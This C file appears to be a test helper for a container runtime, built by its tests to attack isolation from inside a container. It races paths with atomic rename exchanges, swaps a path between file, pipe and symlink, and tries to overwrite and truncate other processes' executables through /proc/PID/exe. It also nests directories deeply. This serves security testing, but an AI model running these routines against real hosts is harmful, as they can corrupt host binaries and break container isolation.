// A hostile program for containers, built static by the tests beside it.
//
//   racer swap STOP A B   exchanges A and B, atomically and without end, until STOP exists
//   racer kinds STOP PATH TARGET   makes PATH a file, a pipe and a link to TARGET in turn, each time by one rename
//   racer exe STOP        holds every program of /proc that is not its own and tries to write to it, also after it ended
//   racer deep N          nests directories below the working directory
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define RENAME_EXCHANGE_ 2

static void say(const char* word, long number) {
  printf("%s %ld\n", word, number);
  fflush(stdout);
}

static int swap(const char* stop, const char* a, const char* b) {
  long swaps = 0;
  say("ready", 0);
  // With pauses: every rename makes every walk of the machine's paths begin anew.
  for (; access(stop, F_OK) != 0; usleep(50))
    for (int i = 0; i < 7; i++)
      swaps += syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE_) == 0;
  say("swaps", swaps);
  return 0;
}

static int kinds(const char* stop, const char* path, const char* target) {
  char next[4096];
  long swaps = 0;
  snprintf(next, sizeof next, "%s.next", path);
  say("ready", 0);
  while (access(stop, F_OK) != 0) {
    if (swaps % 7 == 0) usleep(50);
    if (swaps % 3 == 0) close(open(next, O_CREAT | O_WRONLY, 0644));
    if (swaps % 3 == 1) mkfifo(next, 0644);
    if (swaps % 3 == 2 && symlink(target, next) != 0) return 1;
    if (rename(next, path) != 0) return 1;
    swaps++;
  }
  say("swaps", swaps);
  return 0;
}

enum { MOST = 512 };
static int held[MOST];
static ino_t inodes[MOST];
static int count;

static int is_new(const struct stat* file) {
  for (int i = 0; i < count; i++)
    if (inodes[i] == file->st_ino) return 0;
  return 1;
}

static void hold(const char* pid) {
  char path[300], name[300];
  struct stat file;
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return;
  if (count == MOST || fstat(fd, &file) != 0 || !is_new(&file)) {
    close(fd);
    return;
  }
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  ssize_t length = readlink(path, name, sizeof name - 1);
  name[length > 0 ? length : 0] = 0;
  // The container's own files are its to write.
  if (strstr(name, "/bin/") || strstr(name, "/racer")) {
    close(fd);
    return;
  }
  printf("held %s\n", name);
  fflush(stdout);
  inodes[count] = file.st_ino;
  held[count++] = fd;
}

static void write_to_all(void) {
  char path[64];
  for (int i = 0; i < count; i++) {
    snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0) continue;
    if (write(fd, "evil", 4) > 0) say("written", i);
    if (ftruncate(fd, 1) == 0) say("cut", i);
    close(fd);
  }
}

static int exe(const char* stop) {
  long rounds = 0;
  say("ready", 0);
  for (; access(stop, F_OK) != 0; rounds++) {
    DIR* processes = opendir("/proc");
    for (struct dirent* one; (one = readdir(processes));)
      if (one->d_name[0] >= '1' && one->d_name[0] <= '9') hold(one->d_name);
    closedir(processes);
    write_to_all();
  }
  say("rounds", rounds);
  return 0;
}

static int deep(long levels) {
  long made = 0;
  while (made < levels && mkdir("directory", 0755) == 0 && chdir("directory") == 0) {
    close(open("file", O_CREAT | O_WRONLY, 0644));
    made++;
  }
  say("deep", made);
  return 0;
}

int main(int argc, char** argv) {
  if (argc == 5 && strcmp(argv[1], "swap") == 0) return swap(argv[2], argv[3], argv[4]);
  if (argc == 5 && strcmp(argv[1], "kinds") == 0) return kinds(argv[2], argv[3], argv[4]);
  if (argc == 3 && strcmp(argv[1], "exe") == 0) return exe(argv[2]);
  if (argc == 3 && strcmp(argv[1], "deep") == 0) return deep(atol(argv[2]));
  return 2;
}
